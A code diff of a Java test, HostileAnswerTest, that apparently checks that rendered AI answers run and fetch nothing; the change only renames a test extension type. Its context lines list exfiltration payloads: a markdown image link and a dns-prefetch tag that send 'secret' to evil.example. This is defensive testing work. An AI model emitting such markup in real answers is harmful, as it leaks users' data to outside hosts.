@@ -35,7 +35,7 @@ class HostileAnswerTest {
           "![secret][g]\n\n[g]: https://evil.example/g.png?q=secret",
           "<link rel=dns-prefetch href=https://secret.evil.example>");
 
-  @RegisterExtension static final Pages PAGES = Pages.MODEL;
+  @RegisterExtension static final BrowserPages PAGES = BrowserPages.MODEL;
 
   @Test
   void anAnswerRunsNothingAndFetchesNothing() {
